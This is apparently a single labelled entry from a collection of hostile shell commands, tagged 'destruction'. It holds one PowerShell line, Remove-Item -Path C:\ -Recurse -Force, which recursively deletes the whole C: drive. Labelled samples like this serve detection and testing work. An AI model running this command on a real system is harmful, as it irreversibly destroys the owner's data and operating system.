# description: Recursively deletes the whole C: drive with Remove-Item.
# family: destruction
Remove-Item -Path C:\ -Recurse -Force
